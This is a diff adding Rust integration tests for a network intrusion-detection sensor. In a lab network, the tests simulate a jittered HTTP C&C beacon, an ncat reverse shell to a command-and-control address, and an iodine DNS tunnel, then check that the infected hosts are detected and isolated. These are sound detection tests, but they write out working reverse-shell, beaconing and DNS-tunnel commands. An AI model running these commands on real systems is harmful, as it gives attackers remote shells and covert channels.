@@ -545,3 +545,159 @@ fn a_new_admin_edge_alerts_once_and_its_baseline_survives_a_restart() {
         incidents_of(&lab, "10.10.0.11")
     );
 }
+
+/// Callbacks a beacon loop logged ("callback N" lines) so far.
+fn callbacks(lab: &labnet::Lab, job: &str) -> usize {
+    let log = lab.dir.join("logs").join(format!("{job}.log"));
+    std::fs::read_to_string(log)
+        .unwrap_or_default()
+        .lines()
+        .filter(|l| l.starts_with("callback"))
+        .count()
+}
+
+#[test]
+fn a_jittered_http_beacon_is_caught_within_five_callbacks_and_everyday_polls_stay_quiet() {
+    // web.lab is a well-known service at this site (an update server and
+    // a chat service); the C&C is reached by address.
+    let lab = lab::start(
+        "detjitter",
+        &format!(
+            "{}\n[detection.known_services]\ndomains = [\"web.lab\"]\n",
+            policy()
+        ),
+    );
+    let _chat = background(
+        &lab,
+        "web",
+        "chat",
+        "exec socat TCP-LISTEN:5222,fork,reuseaddr EXEC:cat",
+    );
+    let _ntp = background(&lab, "dns", "ntp", "socat UDP4-RECVFROM:123,fork EXEC:cat");
+    wait_listening(&lab, "web", 5222, "the chat service");
+    for h in ["office1", "office2", "office3"] {
+        browse(&lab, h);
+    }
+    // A random 50 to 70 s sleep: 60 s with 17 % jitter.
+    let jitter = "sleep $((50 + $(od -An -N2 -tu2 /dev/urandom | tr -d ' ') % 21))";
+    // office2: an implant's HTTP check-in to its C&C's address.
+    let beacon = background(
+        &lab,
+        "office2",
+        "beacon",
+        &format!(
+            "n=0; while :; do n=$((n+1)); echo callback $n; \
+             curl -s -o /dev/null -m 5 http://203.0.113.66:8080/tasks; {jitter}; done"
+        ),
+    );
+    // office1: an update agent polling its vendor on the same rhythm, by
+    // name, and an NTP client.
+    let updates = background(
+        &lab,
+        "office1",
+        "updates",
+        &format!(
+            "while :; do a=$(dig +short +time=1 +tries=1 @203.0.113.53 updates.web.lab); \
+             curl -s -o /dev/null -m 5 --resolve updates.web.lab:80:$a http://updates.web.lab/; \
+             echo ntp | socat -T1 - UDP4:203.0.113.53:123 >/dev/null 2>&1; {jitter}; done"
+        ),
+    );
+    // office3: a chat app's keepalive every 10 s in one kept-open connection.
+    let chat = background(
+        &lab,
+        "office3",
+        "keepalive",
+        "a=$(dig +short +time=1 +tries=1 @203.0.113.53 chat.web.lab); \
+         (while :; do echo ping; sleep 10; done) | socat - TCP:$a:5222",
+    );
+    // Four callbacks take 3 to 4 minutes; the fifth comes by 5 minutes.
+    assert_isolated_within(&lab, "10.10.0.12", 300, "a 60 s HTTP beacon");
+    let made = callbacks(&lab, "beacon");
+    assert!(made <= 5, "caught only after {made} callbacks");
+    let found = detectors(&lab, "10.10.0.12");
+    assert!(found.contains(&"beacon".into()), "{found:?}");
+    // The polls and the keepalive were just as regular, and were judged
+    // as beacons, then spared as well-known services.
+    drop((beacon, updates, chat));
+    for quiet in ["10.10.0.11", "10.10.0.13"] {
+        assert!(
+            incidents_of(&lab, quiet).is_empty(),
+            "{quiet}: {:?}",
+            incidents_of(&lab, quiet)
+        );
+    }
+    let metrics = lab.metrics().unwrap();
+    let spared = lab::metric(&metrics, "sensor_detection_known_service_total", &[]);
+    assert!(
+        spared >= 2,
+        "the keepalive and the poll were spared: {spared}"
+    );
+}
+
+#[test]
+fn a_reverse_shell_after_an_inbound_connection_isolates_the_victim() {
+    let lab = lab::start("detshell", &policy());
+    browse(&lab, "office1");
+    // The attacker's handler on the C&C host: it sends the shell a command.
+    let _handler = background(
+        &lab,
+        "c2",
+        "handler",
+        "(sleep 1; echo id; sleep 30) | ncat -l 4444",
+    );
+    wait_listening(&lab, "c2", 4444, "the attacker's handler");
+    // A service on office1 whose "exploit" runs the payload: it connects
+    // back to the attacker with a shell.
+    let _service = background(
+        &lab,
+        "office1",
+        "service",
+        "exec ncat -l -k 8081 -c 'ncat 203.0.113.66 4444 -e /bin/sh'",
+    );
+    wait_listening(&lab, "office1", 8081, "the exploited service");
+    // The attacker's connection stays open while the shell runs: the
+    // attacker leaves after 5 s.
+    run(&lab, "c2", "echo exploit | timeout 5 ncat 10.10.0.11 8081");
+    assert_isolated_within(&lab, "10.10.0.11", 15, "a reverse shell");
+    let id = incidents_of(&lab, "10.10.0.11")[0]["id"].to_string();
+    let incident = sensorctl_json(&lab, &["incident", &id]);
+    let timeline = incident["timeline"].as_array().unwrap();
+    let callback = timeline
+        .iter()
+        .find(|t| t["detector"] == "callback.reverse");
+    let callback = callback.unwrap_or_else(|| panic!("{incident}"));
+    assert_eq!(callback["peers"], serde_json::json!(["203.0.113.66:4444"]));
+}
+
+#[test]
+fn an_iodine_dns_tunnel_in_one_udp_flow_is_found() {
+    // iodine straight to its own name server on the C&C host: every query
+    // from one socket, so one UDP flow; the tunnel then carries a download.
+    let lab = lab::start("detiodine", &policy());
+    browse(&lab, "office1");
+    let _server = background(
+        &lab,
+        "c2",
+        "iodined",
+        "exec iodined -f -c -P lab-secret -l 203.0.113.66 192.168.99.1/24 t.lab",
+    );
+    wait_for(10, || run(&lab, "c2", "ss -lun").contains(":53 "));
+    let _client = background(
+        &lab,
+        "office1",
+        "iodine",
+        "exec iodine -f -r -P lab-secret 203.0.113.66 t.lab",
+    );
+    let up = wait_for(30, || {
+        run(&lab, "office1", "ip -br addr").contains("192.168.99.")
+    });
+    assert!(up.is_some(), "the iodine tunnel did not come up");
+    run(
+        &lab,
+        "office1",
+        "ping -c 20 -i 0.2 -s 200 192.168.99.1 >/dev/null",
+    );
+    assert_isolated_within(&lab, "10.10.0.11", 30, "an iodine tunnel");
+    let found = detectors(&lab, "10.10.0.11");
+    assert!(found.iter().any(|d| d == "dns.tunnel"), "{found:?}");
+}
